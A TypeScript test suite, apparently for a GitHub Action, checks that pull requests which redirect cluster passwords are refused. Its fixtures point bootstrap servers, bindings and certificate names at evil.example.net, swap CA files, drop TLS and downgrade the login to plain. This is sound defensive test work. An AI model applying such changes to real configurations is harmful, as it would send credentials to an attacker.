// Secrets in code that nobody merged yet: whatever a pull request does to where a secret goes, it goes nowhere that the
// branch it is for does not send it to. The hosts are names that lead nowhere, and a refusal comes before any is asked.

import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { after, before, test } from 'node:test'
import { action } from './action-process.ts'
import { type Folder, folder } from './strait.ts'

type Files = Readonly<Record<string, string>>

const home = { repository: { default_branch: 'main' } }
const repo = { full_name: 'o/r' }
const env = { US_PASSWORD: 'canary-1', EU_PASSWORD: 'canary-2', OTHER_TOKEN: 'canary-3' }

const login = (secret: string): string => `
  sasl {
    mechanism = "scram-sha-512"
    username  = "strait"
    password  = env("${secret}")
  }`
const flow = `flow "us-to-eu" {
  source = cluster.us
  target = cluster.eu
  topics { include = ["orders"] }
}
`
const europe = `cluster "eu" {
  bootstrap = ["eu.example.com:9092"]
${login('EU_PASSWORD')}
}
`
const america = (head: string, secret = 'US_PASSWORD'): string => `cluster "us" {
${head}
${login(secret)}
}
`
const variable = `variable "us_bootstrap" {
  default = ["us.example.com:9092"]
}
`
const pinned = '  bootstrap  = var.us_bootstrap\n  cluster_id = "5L6g3nShT-eMCtK--X86sw"'
const base: Files = {
  'topology/main.hcl': `${variable}\n${america(pinned)}\n${europe}\n${flow}`,
  'topology/strait.straitvars': '# nothing yet\n',
  'values/production.straitvars': 'us_bootstrap = ["us-1.example.com:9092"]\n',
}

let place: Folder
let origin: string
let trusted: string

function git(cwd: string, ...args: readonly string[]): string {
  const who = ['-c', 'user.name=a', '-c', 'user.email=a@example.com', '-c', 'protocol.file.allow=always']
  return execFileSync('git', [...who, ...args], { cwd, encoding: 'utf8', stdio: 'pipe' }).trim()
}

/** On top of `at`; answers the commit. */
function commit(files: Files, at?: string): string {
  if (at !== undefined) git(origin, 'checkout', '-q', '--detach', at)
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(origin, name)), { recursive: true })
    writeFileSync(join(origin, name), text)
  }
  git(origin, 'add', '-A')
  git(origin, 'commit', '-q', '--allow-empty', '-m', 'change')
  return git(origin, 'rev-parse', 'HEAD')
}

before(() => {
  place = folder({})
  origin = join(place.path, 'origin')
  git(place.path, 'init', '-q', '-b', 'main', origin)
  trusted = commit(base)
})

after(() => place[Symbol.dispose]())

interface Pull {
  readonly files: Files
  /** What it asks to be merged into. */
  readonly against?: { readonly sha: string; readonly ref: string }
  readonly inputs?: Readonly<Record<string, string>>
  readonly push?: string
  readonly event?: string
  /** What a step before puts into the checkout. */
  readonly placed?: Files
}

/** Of a shallow checkout of the head, as actions/checkout makes it. */
async function plan({
  files,
  against = { sha: trusted, ref: 'main' },
  inputs = {},
  push,
  event = 'push',
  placed = {},
}: Pull) {
  const head = commit(files, against.sha)
  git(origin, 'branch', '-f', 'head', head)
  // Not by the commit: the same files in the same second are the same commit.
  const workspace = mkdtempSync(join(place.path, 'checkout-'))
  git(place.path, 'clone', '-q', '--depth=1', '--branch', 'head', `file://${origin}`, workspace)
  for (const [name, text] of Object.entries(placed)) writeFileSync(join(workspace, name), text)
  const pull_request = { number: 1, head: { sha: head, repo }, base: { ...against, repo } }
  const started =
    push === undefined
      ? { event: 'pull_request', payload: { ...home, pull_request } }
      : { event, payload: home, ref: `refs/heads/${push}` }
  return action(place, { ...started, workspace, inputs: { directory: 'topology', ...inputs }, env })
}

function isRefused({ code, log, output }: Awaited<ReturnType<typeof plan>>, why: RegExp): void {
  assert.equal(code, 1, log)
  assert.match(log, why)
  assert.match(log, /[Nn]othing was connected/)
  assert.match(output, /failure_reason<<(\S+)\nsecret_not_bound\n\1\n/)
  const shown = log.replaceAll(/^::add-mask::.*$/gm, '')
  assert.doesNotMatch(shown + output, /canary/)
}

const elsewhere = /would send env\("US_PASSWORD"\) to evil\.example\.net:9092, but that secret is bound to us/
const stolen = '  bootstrap  = ["evil.example.net:9092"]\n  cluster_id = "5L6g3nShT-eMCtK--X86sw"'

const thefts: readonly (Pull & { readonly name: string; readonly why: RegExp })[] = [
  {
    name: 'another host',
    files: { 'topology/main.hcl': `${variable}\n${america(stolen)}\n${europe}\n${flow}` },
    why: elsewhere,
  },
  {
    name: 'another host by a variable’s default',
    files: {
      'topology/main.hcl': (base['topology/main.hcl'] ?? '').replace('us.example.com', 'evil.example.net'),
    },
    why: elsewhere,
  },
  {
    name: 'another host by the values beside the topology',
    files: { 'topology/strait.straitvars': 'us_bootstrap = ["evil.example.net:9092"]\n' },
    why: elsewhere,
  },
  {
    name: 'another host by the file of values that the workflow names',
    files: { 'values/production.straitvars': 'us_bootstrap = ["evil.example.net:9092"]\n' },
    inputs: { 'var-files': 'values/production.straitvars' },
    why: elsewhere,
  },
  {
    name: 'another host by a module',
    files: {
      'topology/main.hcl': `module "us" {\n  source = "./us"\n}\n\n${europe}\n`,
      'topology/us/main.hcl': `${america(stolen)}\noutput "it" {\n  value = cluster.us\n}\n`,
    },
    why: /would send env\("US_PASSWORD"\) to evil\.example\.net:9092/,
  },
  {
    name: 'another cluster id',
    files: {
      'topology/main.hcl': (base['topology/main.hcl'] ?? '').replace(
        '5L6g3nShT-eMCtK--X86sw',
        'x'.repeat(22),
      ),
    },
    why: /uses env\("US_PASSWORD"\), which is bound to cluster id 5L6g3nShT-eMCtK--X86sw/,
  },
  {
    name: 'no cluster id any more',
    files: { 'topology/main.hcl': (base['topology/main.hcl'] ?? '').replace(/ {2}cluster_id.*\n/, '') },
    why: /uses env\("US_PASSWORD"\), which is bound to cluster id 5L6g3nShT-eMCtK--X86sw/,
  },
  {
    name: 'a secret of something else',
    files: { 'topology/main.hcl': `${variable}\n${america(pinned, 'OTHER_TOKEN')}\n${europe}\n${flow}` },
    why: /cluster "us" asks for env\("OTHER_TOKEN"\), and no secret binding names it/,
  },
  {
    name: 'bindings of its own in files that nothing asks for them',
    files: {
      'topology/main.hcl': `${variable}\n${america(stolen)}\n${europe}\n${flow}`,
      '.env': 'STRAIT_SECRET_BINDINGS="US_PASSWORD = evil.example.net"\n',
      'topology/bindings.auto.straitvars': 'secret-bindings = "US_PASSWORD = evil.example.net"\n',
    },
    why: /evil\.example\.net:9092|no variable/,
  },
]

for (const { name, why, ...pull } of thefts) {
  test(`a pull request with ${name} is refused`, async () => isRefused(await plan(pull), why))
}

const secure = `cluster "us" {
  bootstrap = ["us.example.com:9092"]

  tls {
    ca_file = "ca.pem"
  }
${login('US_PASSWORD')}
}

cluster "eu" {
  bootstrap = ["eu.example.com:9092"]

  tls {
    ca_file = "../certs/eu.pem"
  }
${login('EU_PASSWORD')}
}
${flow}`
const secured: Files = {
  'topology/main.hcl': secure,
  'topology/ca.pem': 'the authorities\n',
  'certs/eu.pem': 'of Europe\n',
}
const ourTls = `
  tls {
    ca_file = "ca.pem"
  }
`

/** `line`: where the refusal stands in main.hcl. */
const weakenings: readonly (Pull & { readonly name: string; readonly why: RegExp; readonly line: number })[] =
  [
    {
      name: 'no TLS any more',
      files: { 'topology/main.hcl': secure.replace(ourTls, '') },
      why: /would send env\("US_PASSWORD"\) in clear, but that secret is bound to TLS/,
      line: 1,
    },
    {
      name: 'authorities of its own in the file of the old ones',
      files: { 'topology/ca.pem': 'mine\n' },
      why: /to whoever the CA file [0-9a-f]{64} vouches for, but that secret is bound to the CA file/,
      line: 5,
    },
    {
      name: 'authorities of its own in a file beside the topology',
      files: { 'certs/eu.pem': 'mine\n' },
      why: /would send env\("EU_PASSWORD"\) to whoever the CA file/,
      line: 19,
    },
    {
      name: 'authorities of its own in another file',
      files: { 'topology/main.hcl': secure.replace('"ca.pem"', '"mine.pem"'), 'topology/mine.pem': 'mine\n' },
      why: /to whoever the CA file/,
      line: 5,
    },
    {
      name: 'any public authority',
      files: { 'topology/main.hcl': secure.replace('    ca_file = "ca.pem"\n', '') },
      why: /to whoever any public authority vouches for/,
      line: 4,
    },
    {
      name: 'a name of its own in the certificate',
      files: {
        'topology/main.hcl': secure.replace('"ca.pem"', '"ca.pem"\n    server_name = "evil.example.net"'),
      },
      why: /to whoever has a certificate for evil\.example\.net/,
      line: 6,
    },
    {
      name: 'a login that hands over the password',
      files: { 'topology/main.hcl': secure.replace('scram-sha-512', 'plain') },
      why: /by plain, but that secret is bound to scram-sha-512 or stronger/,
      line: 9,
    },
    {
      name: 'a weaker login by a variable',
      files: {
        'topology/main.hcl': `${secure.replace('"scram-sha-512"', 'var.login')}\nvariable "login" {\n  default = "scram-sha-256"\n}\n`,
      },
      why: /by scram-sha-256/,
      line: 9,
    },
  ]

for (const { name, why, line, ...pull } of weakenings) {
  test(`a pull request with ${name} is refused, at its line`, async () => {
    const against = { sha: commit(secured, trusted), ref: 'main' }
    const run = await plan({ ...pull, against })
    isRefused(run, why)
    const place = new RegExp(`^::error file=topology/main\\.hcl,line=${line},.*title=ST610`, 'm')
    assert.match(run.log, place)
  })
}

test('every use of a secret that is not meant is told at once', async () => {
  const against = { sha: commit(secured, trusted), ref: 'main' }
  const files = { 'topology/main.hcl': secure.replace(ourTls, ''), 'certs/eu.pem': 'mine\n' }
  const { log } = await plan({ files, against })
  assert.equal(log.match(/^::error file=topology\/main\.hcl,.*title=ST610/gm)?.length, 2, log)
})

test('a pull request that makes a way safer needs nobody, and other authorities the list', async () => {
  const weak = secure.replace(ourTls, '').replace('scram-sha-512', 'plain')
  const sha = commit({ ...secured, 'topology/main.hcl': weak }, trusted)
  // What comes next is that these files hold no certificates.
  const goesOn = ({ log }: Awaited<ReturnType<typeof plan>>): void => assert.match(log, /title=ST401/)
  goesOn(await plan({ files: { 'topology/main.hcl': secure }, against: { sha, ref: 'main' } }))

  const against = { sha: commit(secured, trusted), ref: 'main' }
  const other = { files: { 'topology/ca.pem': 'the next authorities\n' }, against }
  const hash = (text: string): string => createHash('sha256').update(text).digest('hex')
  const list = (...words: readonly string[]) => ({
    'secret-bindings': `US_PASSWORD = us.example.com ${words.join(' ')}\nEU_PASSWORD = *.example.com ca:${hash('of Europe\n')}`,
  })
  isRefused(await plan({ ...other, inputs: list() }), /bound to any public authority/)
  isRefused(
    await plan({ ...other, inputs: list(`ca:${hash('the authorities\n')}`) }),
    /has to say ca:[0-9a-f]{64}/,
  )
  const both = ['the authorities\n', 'the next authorities\n'].map((text) => `ca:${hash(text)}`)
  goesOn(await plan({ ...other, inputs: list(...both) }))
})

test('authorities that the workflow puts there are those of the base too, until a pull request brings its own', async () => {
  const { 'topology/ca.pem': _, ...rest } = secured
  const sha = commit({ ...rest, '.gitignore': 'ca.pem\n' }, trusted)
  git(origin, 'rm', '-q', '--cached', '--ignore-unmatch', 'topology/ca.pem')
  const against = { sha, ref: 'main' }
  const placed = { 'topology/ca.pem': 'of the workflow\n' }
  const { log } = await plan({ files: {}, against, placed })
  assert.match(log, /title=ST401/)
  isRefused(
    await plan({ files: { '.gitignore': '', ...placed }, against }),
    /topology\/ca\.pem, which its cluster trusts, is no file of it/,
  )
})

test('a pull request against a branch that anyone may have made is held to the default branch', async () => {
  const files = { 'topology/main.hcl': `${variable}\n${america(stolen)}\n${europe}\n${flow}` }
  const sha = commit(files, trusted)
  const against = { sha, ref: 'prepared' }
  isRefused(await plan({ files: { 'README.md': 'hello\n' }, against }), elsewhere)
})

test('a push to a branch that is not merged is held to the default branch too', async () => {
  const files = { 'topology/main.hcl': `${variable}\n${america(stolen)}\n${europe}\n${flow}` }
  isRefused(await plan({ files, push: 'side' }), elsewhere)
})

test('a merge queue is held to the default branch: what waits in it is not merged', async () => {
  const files = { 'topology/main.hcl': `${variable}\n${america(stolen)}\n${europe}\n${flow}` }
  const queued = { push: 'gh-readonly-queue/main/pr-1-abc', event: 'merge_group' }
  isRefused(await plan({ files, ...queued }), elsewhere)
  const inputs = { command: 'apply', 'auto-approve': 'true' }
  const { code, log, output } = await plan({ files: {}, ...queued, inputs })
  assert.equal(code, 1)
  assert.match(log, /apply is for the default branch, and this is gh-readonly-queue/)
  assert.match(output, /failure_reason<<(\S+)\nnot_allowed\n\1\n/)
})

test('a pull request that uses secrets as the base does may connect', async () => {
  const text = (base['topology/main.hcl'] ?? '').replace('us.example.com:9092', '127.0.0.1:1')
  const main = { 'topology/main.hcl': text.replace('eu.example.com:9092', '127.0.0.1:2') }
  const against = { sha: commit(main, trusted), ref: 'main' }
  const { code, log, output } = await plan({ files: { 'README.md': 'hello\n' }, against })
  assert.equal(code, 1, log)
  assert.match(output, /failure_reason<<(\S+)\nunreachable\n\1\n/)
})

test('without a base that can be read nothing is connected', async () => {
  const gone = { sha: 'f'.repeat(40), ref: 'main' }
  const head = commit({}, trusted)
  git(origin, 'branch', '-f', 'head', head)
  const workspace = join(place.path, 'lost')
  git(place.path, 'clone', '-q', '--depth=1', '--branch', 'head', `file://${origin}`, workspace)
  const pull_request = { number: 1, head: { sha: head, repo }, base: { ...gone, repo } }
  const payload = { ...home, pull_request }
  const inputs = { directory: 'topology' }
  const run = await action(place, { event: 'pull_request', payload, workspace, inputs, env })
  isRefused(run, /what the base branch does with secrets cannot be told/)
})
